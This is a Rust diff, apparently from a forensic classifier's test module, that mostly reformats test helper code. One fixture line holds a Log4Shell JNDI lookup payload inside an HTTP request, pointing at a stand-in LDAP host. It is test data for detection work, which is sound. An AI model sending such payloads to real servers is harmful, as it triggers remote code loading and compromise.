@@ -184,7 +184,13 @@ mod tests {
 
     const LOG4J: &str = "GET /?x=${jndi:ldap://192.0.2.9:1389/a} HTTP/1.1";
 
-    fn check(by_text: &str, role: Option<Role>, commands: &[&str], evidence: &Evidence, expect: Result<&str, Abstained>) {
+    fn check(
+        by_text: &str,
+        role: Option<Role>,
+        commands: &[&str],
+        evidence: &Evidence,
+        expect: Result<&str, Abstained>,
+    ) {
         let methods = Methods::builtin();
         let text = methods.identify(by_text);
         let chain = role.map(|role| methods.by_entry(role, commands)).unwrap_or_default();
@@ -211,8 +217,7 @@ mod tests {
 
     #[test]
     fn logons_tell_guessing_from_a_stolen_key() {
-        let guessed =
-            Evidence { failed_logons_before: 40, logon: Some(LogonKind::Password), ..Default::default() };
+        let guessed = Evidence { failed_logons_before: 40, logon: Some(LogonKind::Password), ..Default::default() };
         check("", Some(Role::SshSession), &[], &guessed, Ok("ssh_password_guess"));
         let key = Evidence { logon: Some(LogonKind::PublicKey), ..Default::default() };
         check("", Some(Role::SshSession), &[], &key, Ok("ssh_stolen_key"));
